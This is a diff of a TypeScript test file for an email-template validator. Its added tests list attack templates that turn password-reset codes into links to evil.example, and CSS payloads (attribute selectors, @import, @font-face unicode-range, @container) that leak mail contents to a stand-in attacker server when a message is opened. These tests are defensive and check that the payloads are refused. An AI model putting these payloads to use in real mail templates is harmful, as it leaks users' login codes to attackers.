@@ -1,26 +1,29 @@
 import { describe, expect, test } from 'vitest';
-import { builtInTexts } from '../../../src/domain/mail/built-in.js';
+import { builtInText } from '../../../src/domain/mail/built-in.js';
 import { htmlOfText } from '../../../src/domain/mail/html-of-text.js';
 import { mailNames, mailSpec, variablesOf } from '../../../src/domain/mail/mails.js';
 import { renderSample } from '../../../src/domain/mail/sample.js';
+import { languageTags } from '../../../src/lib/languages/languages.js';
 import { templateLimits, templateProblems } from '../../../src/domain/mail/template-problems.js';
 
 const problems = (part: 'subject' | 'text' | 'html', template: string, name: (typeof mailNames)[number] = 'password_reset_code') =>
   templateProblems(name, { [part]: template }).map(({ code, detail, attribute }) => [attribute, code, detail].join(': '));
 
-describe.each(mailNames)('the built-in words of %s', (name) => {
-  test('are what a template may be, and so is the HTML that follows from them', () => {
-    const html = htmlOfText(builtInTexts[name].text, variablesOf(name));
-    expect(templateProblems(name, { ...builtInTexts[name], html })).toEqual([]);
-    expect(builtInTexts[name].text.length + html.length).toBeLessThan(templateLimits.text);
+describe.each(mailNames)('the built-in text of %s', (name) => {
+  test.each(languageTags)('in %s is what a template may be, and so is the HTML that follows from it', (language) => {
+    const builtIn = builtInText(name, language);
+    const html = htmlOfText(builtIn.text, variablesOf(name));
+    expect(templateProblems(name, { ...builtIn, html })).toEqual([]);
+    expect(builtIn.text.length + html.length).toBeLessThan(templateLimits.text);
+    expect(builtIn.subject.length).toBeLessThan(templateLimits.subject);
   });
 
-  test('name something without which the mail is of no use, and every variable has a sample', () => {
+  test('names something without which the mail is of no use, and every variable has a sample', () => {
     const { needed } = mailSpec(name);
     expect(needed.length).toBeGreaterThan(0);
     expect(Object.keys(variablesOf(name))).toEqual(expect.arrayContaining([...needed]));
     const environment = { name: 'Acme', branding: {}, kind: 'production' as const, support_email: 'help@acme.example' };
-    const sample = renderSample(environment, name, builtInTexts[name], null);
+    const sample = renderSample(environment, name, builtInText(name, 'en'), 'en');
     expect(`${sample.subject}${sample.text}${sample.html}`).not.toMatch(/\{\{|undefined|null/);
   });
 });
@@ -126,6 +129,89 @@ test.each([
   expect(problems('html', `<p>{{code}}</p>${html}`)[0]).toContain('markup_not_allowed');
 });
 
+test.each([
+  'https://evil.example/?c={{code}}',
+  'https://evil.example/?u={{reset_url}}',
+  'evil.example/{{code}}',
+  'https://evil.example/?{{device}}{{code}}',
+  '{{code}}.evil.example',
+  '{{code}}@evil.example',
+  'https://evil.example/?c={{^administrator}} {{/administrator}}{{code}}',
+  'https://evil.example/?c={{#device}}\n{{/device}}{{#ip_address}} and {{/ip_address}}{{code}}',
+  '{{#administrator}}https://evil.example/?c={{/administrator}}{{code}}',
+  '{{#support_email}}{{support_email}}?body={{code}}{{/support_email}}',
+])('a text is refused of which mail programs make a link that carries the code: %j (attack 38.801)', (text) => {
+  const told = 'mail programs make a link of it';
+  expect(problems('text', `Your code:\n\n{{code}}\n\n${text}\n`)[0]).toContain(told);
+  expect(problems('html', `<p>{{code}}</p><p>${text}</p>`)[0]).toContain(told);
+});
+
+test.each(['<p>https:&#47;&#47;evil.example&#x2f;?c=<b>{{code}}</b></p>', '<td>{{code}}<span></span>.evil.example</td>'])(
+  'nor does HTML hide it: %s (attack 38.801)',
+  (html) => expect(problems('html', `<p>{{code}}</p>${html}`)[0]).toContain('mail programs make a link of it'),
+);
+
+test('codes and links stand where languages put them', () => {
+  for (const text of [
+    '您的验证码是{{code}}，有效期{{expires_in}}。',
+    'Code: "{{code}}".',
+    '({{reset_url}})',
+    '{{reset_url}}.',
+    'At www.acme.example: {{code}}',
+    '{{#administrator}}See https://acme.example/why\n{{/administrator}}\n{{code}}',
+  ])
+    expect(problems('text', `{{code}}\n${text}\n`)).toEqual([]);
+  const html = '<table><tr><td>www.acme.example</td><td>{{code}}</td></tr></table><p><a href="{{reset_url}}">acme.example</a> {{code}}</p>';
+  expect(problems('html', html)).toEqual([]);
+  // Without a code there is nothing to tell.
+  expect(templateProblems('new_sign_in', { text: 'https://acme.example/?back={{account_url}} {{account_url}}' })).toEqual([]);
+});
+
+test('no line of a text becomes a link with a variable in it', () => {
+  expect(htmlOfText('https://acme.example/?n={{environment_name}}\n', variablesOf('new_sign_in'))).not.toContain('<a');
+  expect(htmlOfText('https://acme.example/help\n', variablesOf('new_sign_in'))).toContain('<a href="https://acme.example/help">');
+});
+
+test.each([
+  ['a[href*="code=104"] { background: url(https://evil.example/104) }', '[href*='],
+  ['p[ TITLE ^="1"] { color: red }', '[ TITLE'],
+  ['[*|href*="1"] { color: red }', '[*|href'],
+  ['[/**/href*="1"] { color: red }', '[/**/href'],
+  ['[\\68 ref*="1"] { color: red }', 'has a \\'],
+  ['@import url(https://evil.example/x.css);', '@import'],
+  ['@IMPORT "https://evil.example/x.css";', '@import'],
+  ['@font-face { font-family: x; src: url(https://evil.example/1); unicode-range: U+31 }', '@font-face'],
+  ['@container (min-width: 40px) { p { background: url(https://evil.example/40) } }', '@container'],
+  ['@namespace h "http://www.w3.org/1999/xhtml";', '@namespace'],
+])('a style that tells its server what the mail holds, as soon as it is opened: %s (attack 38.802)', (css, detail) => {
+  const [first] = problems('html', `<style>p { margin: 0 }\n${css}</style><p>{{code}}</p>`);
+  expect(first).toMatch(/^html: markup_not_allowed: line 1/);
+  expect(first).toContain(detail);
+});
+
+test('styles that mails have are taken', () => {
+  const css = `@media (max-width: 600px) { .wide { width: 100% !important } } @media (prefers-color-scheme: dark) { body { background: #111 } }
+    [data-ogsc] .dark { color: #fff } a[x-apple-data-detectors] { color: inherit } u + #body a { color: #000 } [class~="x"], div[style*="margin: 16px 0"] { margin: 0 }`;
+  expect(problems('html', `<style>${css}</style><p style="background: url(https://cdn.acme.example/x.png)">{{code}}</p>`)).toEqual([]);
+});
+
+test('braces as character references are no tags', () => {
+  expect(problems('html', '<p>{{code}}</p><p>&#123;&#123;code</p>')[0]).toContain('character references');
+});
+
+test('all forms of the longest template are looked at in no time', () => {
+  const sections = ['administrator', 'device', 'ip_address', 'support_email'].map((name) => `{{#${name}}}<p>x</p>{{/${name}}}`).join('');
+  const html = `<p>{{code}}</p>${sections}`.repeat(20);
+  const began = performance.now();
+  expect(problems('html', html + '<p>a b</p>'.repeat(Math.floor((templateLimits.html - html.length) / 10)))).toEqual([]);
+  expect(performance.now() - began).toBeLessThan(2_000);
+});
+
+test('tags that are too many are counted before they are read', () => {
+  const deep = '{{#administrator}}'.repeat(2_000) + '{{/administrator}}'.repeat(2_000);
+  expect(problems('html', `{{code}}${deep}`)).toEqual(['html: invalid_template: has more than 500 tags.']);
+});
+
 test('the HTML of mails is taken', () => {
   const html = `<!doctype html>
 <html lang="de"><head><meta charset="utf-8"><title>{{environment_name}}</title><style>p { margin: 0 } a > b { color: red }</style></head>
@@ -148,8 +234,8 @@ test('values are escaped in HTML, and links of text become links', () => {
   };
   const { html, text } = renderSample(environment, 'password_reset_code', template, 'ar');
   expect(html).toContain('<html lang="ar" dir="rtl">');
-  expect(html).toContain('<p>a &lt; b<br>\n<a href="https://id.example/password/reset?code=sample&amp;reset_id=1">');
-  expect(html).toContain('<a href="https://acme.example/?a=1&amp;b=2">');
+  expect(html).toContain('<p>a &lt; b<br>\n<a dir="ltr" href="https://id.example/password/reset?code=sample&amp;reset_id=1">');
+  expect(html).toContain('<a dir="ltr" href="https://acme.example/?a=1&amp;b=2">');
   expect(html).toContain('&lt;b&gt;&#34;A&#34; &amp; &#39;B&#39;&lt;/b&gt;');
   expect(html).not.toContain('<b>');
   expect(text).toContain('<b>"A"');
